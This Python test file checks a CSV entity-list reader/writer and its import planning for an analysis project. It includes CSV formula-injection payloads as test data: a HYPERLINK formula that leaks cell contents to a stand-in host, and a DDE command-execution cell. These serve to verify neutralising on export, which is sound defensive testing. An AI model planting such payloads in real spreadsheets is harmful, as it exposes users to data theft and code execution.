"""Entity lists as CSV: the pure reader/writer and the check against a project (no Qt)."""

from __future__ import annotations

import pytest

from app.entity_import import EntityImportPlan, NewEntity, plan_entity_import
from app.formats import entity_csv
from app.interchange import ImportProblem
from app.model import Entity, TagType

TYPES = [
    TagType(1, "Actor", "entity", position=0),
    TagType(2, "Location", "entity", position=1),
    TagType(3, "Credibility", "credibility", position=2),
]
HOSTILE = ("=HYPERLINK(\"http://x.example/?\"&A1,\"details\")", "'quoted", "-1+2", "@SUM(A1)",
           "a | b", "back\\slash", "pipe|end\\")  # fmt: skip


def csv_bytes(*lines: str) -> bytes:
    return ("\ufeff" + "\r\n".join(lines) + "\r\n").encode("utf-8")


def test_aliases_join_and_split_exactly():
    for aliases in ([], ["Jolani"], ["HTS", "Hayat Tahrir al-Sham"], list(HOSTILE)):
        cell = entity_csv.join_aliases(aliases)
        assert entity_csv.split_aliases(cell) == aliases
    assert entity_csv.join_aliases(["a|b", "c\\"]) == "a\\|b | c\\\\"
    assert entity_csv.split_aliases("HTS|Hayat Tahrir al-Sham") == ["HTS", "Hayat Tahrir al-Sham"]
    with pytest.raises(ValueError, match=r"\\\|"):
        entity_csv.split_aliases("a \\n b")


def test_written_file_is_bom_rfc4180_guarded_and_reads_back_exactly(tmp_path):
    path = tmp_path / "team.csv"
    entities = [
        ("Actor", "=cmd|' /C calc'!A0", HOSTILE),
        ("Actor", "Abu Mohammad al-Jolani", ("Jolani", "al-Julani")),
        ("Location", 'Idlib, "the city"', ()),
    ]
    assert entity_csv.write_file(path, entities) == 3
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbftype,name,aliases\r\n")
    text = raw.decode("utf-8-sig")
    # Formula-looking cells are inert in a spreadsheet: one apostrophe in front of the cell.
    assert "\r\nActor,'=cmd|' /C calc'!A0,\"'=HYPERLINK(\"\"http" in text
    assert '"Idlib, ""the city"""' in text
    records = entity_csv.parse(raw, "team.csv")
    assert [(r.tag_type, r.name, r.aliases, r.row) for r in records] == [
        ("Actor", "=cmd|' /C calc'!A0", HOSTILE, 2),
        ("Actor", "Abu Mohammad al-Jolani", ("Jolani", "al-Julani"), 3),
        ("Location", 'Idlib, "the city"', (), 4),
    ]


@pytest.mark.parametrize(
    ("lines", "where", "problem"),
    [
        (["name,type,aliases", "Actor,HTS,"], "row 1", "the header is"),
        (["type,name,aliases", "Actor,HTS"], "row 2", "has 2 cells"),
        (["type,name,aliases", "Actor,HTS,", "Actor,  ,Jolani"], "row 3", "the name is empty"),
        (["type,name,aliases", ",HTS,"], "row 2", "the type is empty"),
        (["type,name,aliases", "Actor,HTS,a |  | b"], "row 2", "alias 2 is empty"),
        (["type,name,aliases", "Actor,\u202eSTH,"], "row 2", "U+202E"),
        (["type,name,aliases", 'Actor,HTS,"Jolani\x07"'], "row 2", "U+0007"),
        (["type,name,aliases", "", "Actor,HTS,ends in \\"], "row 3", "backslash at the end"),
        (["type,name,aliases", 'Actor,"HTS,'], "row 2", "not valid CSV"),
        (["type,name,aliases"], "", "no entities"),
    ],
)
def test_bad_files_name_the_row(lines, where, problem):
    with pytest.raises(ImportProblem) as caught:
        entity_csv.parse(csv_bytes(*lines), "team.csv")
    assert caught.value.where == where and problem in caught.value.problem
    assert "\u202e" not in str(caught.value)  # shown escaped, never applied


def test_row_numbers_count_quoted_line_breaks_as_one_row():
    data = csv_bytes("type,name,aliases", 'Actor,HTS,"two\nlines"', "Actor,,x")
    with pytest.raises(ImportProblem) as caught:
        entity_csv.parse(data, "team.csv")
    assert caught.value.where == "row 2"  # the line break inside the alias is refused first
    assert "U+000A" in caught.value.problem


def test_encoding_problems_are_refused():
    with pytest.raises(ImportProblem, match="not valid UTF-8"):
        entity_csv.parse("type,name,aliases\r\nActor,Şam,\r\n".encode("cp1254"), "t.csv")
    with pytest.raises(ImportProblem, match="empty"):
        entity_csv.parse(b"", "t.csv")


# ---------------------------------------------------------------- against a project

JOLANI = Entity(7, 1, "Abu Mohammad al-Jolani", ("Jolani",), 4, (1,))
HTS = Entity(9, 1, "HTS", (), 1, (1,))
IDLIB = Entity(12, 2, "Idlib", (), 2, (1,))


def plan(*rows, entities=(JOLANI, HTS, IDLIB)):
    records = entity_csv.parse(csv_bytes("type,name,aliases", *rows), "team.csv")
    return plan_entity_import(records, TYPES, entities, "team.csv")


def test_plan_creates_missing_entities_and_extends_those_of_the_same_name():
    result = plan(
        "actor,abu mohammad AL-JOLANI,Jolani | al-Julani | Abu Mohammad al-Julani",
        "Location,Hama,Ḥamāh",
        "Actor,HTS,",
    )
    assert result == EntityImportPlan(
        new=(NewEntity(2, "Hama", ("Ḥamāh",)),),
        aliases=((7, ("al-Julani", "Abu Mohammad al-Julani")),),
    )
    assert result.summary() == "1 new entity, 3 aliases added, 1 existing entity extended"


def test_importing_what_is_there_already_changes_nothing():
    again = plan("Actor,Abu Mohammad al-Jolani,JOLANI", "Actor,HTS,", "Location,Idlib,")
    assert again.empty and "nothing new" in again.summary()


@pytest.mark.parametrize(
    ("row", "problem"),
    [
        ("Weapon,Kornet,", "unknown tag type “Weapon”; this project's entity types are: Actor, "
                           "Location"),
        ("Credibility,B3,", "“Credibility” tags grade claims"),
        ("Actor,jolani,", "“jolani” is already an alias of “Abu Mohammad al-Jolani” (Actor)"),
        ("Actor,Hayat Tahrir al-Sham,Tahrir | hts", "the alias “hts” already names “HTS” (Actor)"),
        ("Actor,Jolani2,Jolani", "the alias “Jolani” already names “Abu Mohammad al-Jolani”"),
        ("Actor,Someone,ــ", "the alias “ــ” has no letter or digit"),
    ],
)  # fmt: skip
def test_plan_refuses_rows_that_do_not_fit_and_says_which_entity(row, problem):
    with pytest.raises(ImportProblem) as caught:
        plan("Location,Hama,", row)
    assert caught.value.where == "row 3"
    assert problem in caught.value.problem


def test_the_same_name_twice_in_a_file_is_refused_with_both_rows():
    with pytest.raises(ImportProblem) as caught:
        plan("Actor,Wagner,PMC Wagner", "Location,Wagner,", "Actor,Prigozhin,pmc  wagner")
    assert caught.value.where == "row 4"
    assert "already in row 2 (an alias of “Wagner”, Actor)" in caught.value.problem
    with pytest.raises(ImportProblem, match=r"row 3.*row 2 \(its name"):
        plan("Actor,Wagner,", "Actor,WAGNER,")


def test_a_second_alias_spelled_like_the_name_is_dropped_not_refused():
    result = plan("Actor,Wagner,wagner | Wagner Group | WAGNER GROUP", entities=())
    assert result.new == (NewEntity(1, "Wagner", ("Wagner Group",)),)
